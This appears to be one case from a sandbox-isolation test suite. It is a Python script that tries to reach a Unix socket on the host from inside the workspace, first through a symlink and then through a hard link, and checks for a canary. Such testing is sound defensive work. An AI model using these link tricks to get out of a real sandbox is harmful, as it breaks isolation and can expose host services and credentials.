# name: reach a unix socket of the host through links in the workspace
# line: 52
import os
import socket

from attack import STAGE, canary_in, own_directory, try_each

links = own_directory("links")


def reached(path):
    with socket.socket(socket.AF_UNIX) as one:
        one.settimeout(5)
        one.connect(os.path.relpath(path))
        return canary_in(one.recv(100)) or "connected"


def by_symlink():
    os.symlink(STAGE["socket_home"], f"{links}/agent")
    return reached(f"{links}/agent")


def by_hard_link():
    os.link(STAGE["socket_home"], f"{links}/hard")
    return reached(f"{links}/hard")


try_each([("symlink", by_symlink), ("hard link", by_hard_link)])
